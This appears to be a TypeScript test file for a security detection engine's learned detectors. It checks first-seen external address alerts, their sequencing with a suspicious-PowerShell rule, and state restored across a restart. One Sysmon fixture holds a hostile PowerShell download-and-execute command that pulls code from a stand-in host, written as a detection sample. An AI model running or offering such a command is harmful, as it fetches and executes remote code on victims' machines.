import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { Scenario, windowsEvent, zeekConn } from '../correlation/testkit.js';
import { DetectionEngine, loadDetectionContent } from '../engine.js';
import { createAnalyzers } from './index.js';
import { baselineConfig } from './testkit.js';

const T0 = Date.parse('2026-03-02T09:00:00Z');
const MIN = 60_000;

/** The detection engine with the built-in rules and the built-in learned detectors. */
function engine(learning: string): Scenario {
  const content = loadDetectionContent({ rules: [] });
  const analyzers = createAnalyzers(baselineConfig({ learning_period: learning }));
  return new Scenario(new DetectionEngine(content, { latenessMs: MIN, analyzers }));
}

const sysmon = (time: number, eventId: number, computer: string, data: Record<string, unknown>) =>
  windowsEvent({ time, channel: 'Microsoft-Windows-Sysmon/Operational', eventId, computer, data });
const powershell = (time: number, computer: string, cmd: string) =>
  sysmon(time, 1, computer, {
    ProcessGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
    ProcessId: 4242,
    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    CommandLine: cmd,
    User: 'CORP\\alice',
  });
const hostAddress = (time: number, computer: string, ip: string) =>
  sysmon(time, 3, computer, {
    Image: 'C:\\Windows\\System32\\svchost.exe',
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: ip,
    SourceHostname: computer,
    SourcePort: 50000,
    DestinationIp: '10.1.0.10',
    DestinationPort: 445,
  });

describe('learned detectors in the detection engine', () => {
  test('suspicious PowerShell, then a first-seen external address: the built-in sequence joins our signal', () => {
    const s = engine('1m');
    s.each([hostAddress(T0, 'WS01.corp.example', '10.1.2.15')]);
    // Learned during the first minute: not first seen later.
    s.each([zeekConn({ time: T0 + 10_000, orig: '10.1.2.15', resp: '93.184.216.34', port: 443 })]);
    const [attack] = s.each([
      powershell(
        T0 + 3 * MIN,
        'WS01.corp.example',
        "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
      ),
    ]);
    s.each([zeekConn({ time: T0 + 4 * MIN, orig: '10.1.2.15', resp: '93.184.216.34', port: 443 })]);
    assert.deepEqual(
      s.signals.filter((x) => x.rule.id.startsWith('vigil.sequence')),
      [],
    );
    const [conn] = s.each([
      zeekConn({ time: T0 + 5 * MIN, orig: '10.1.2.15', resp: '203.0.113.9', port: 80 }),
    ]);
    const firstSeen = s.signals.filter((x) => x.rule.id === 'vigil.first_seen.host_external_ip');
    assert.deepEqual(
      firstSeen.map((x) => [x.entities, x.eventIds]),
      [[{ host: '10.1.2.15', ip: '203.0.113.9' }, [conn]]],
    );
    const sequences = s.signals.filter((x) => x.rule.id.startsWith('vigil.sequence'));
    assert.equal(sequences.length, 1);
    assert.equal(sequences[0]!.rule.id, 'vigil.sequence.powershell_first_seen_external');
    assert.deepEqual(sequences[0]!.eventIds, [attack, conn]);
  });

  test('the engine snapshot carries the learned state across a restart', () => {
    const first = engine('1m');
    first.each([zeekConn({ time: T0, orig: '10.1.2.15', resp: '93.184.216.34', port: 443 })]);
    const snapshot = JSON.parse(JSON.stringify(first.engine.snapshot())) as unknown;
    const second = engine('1m');
    second.engine.restore(snapshot);
    const again = new Scenario(second.engine, 2);
    again.each([zeekConn({ time: T0 + 10 * MIN, orig: '10.1.2.15', resp: '93.184.216.34', port: 443 })]);
    assert.equal(again.signals.length, 0);
    again.each([zeekConn({ time: T0 + 11 * MIN, orig: '10.1.2.15', resp: '224.0.0.251', port: 443 })]);
    again.each([zeekConn({ time: T0 + 12 * MIN, orig: '10.1.2.15', resp: '1.0.0.1', port: 443 })]);
    assert.deepEqual(
      again.signals.map((x) => [x.rule.id, x.entities.ip]),
      [['vigil.first_seen.host_external_ip', '1.0.0.1']],
    );
  });
});
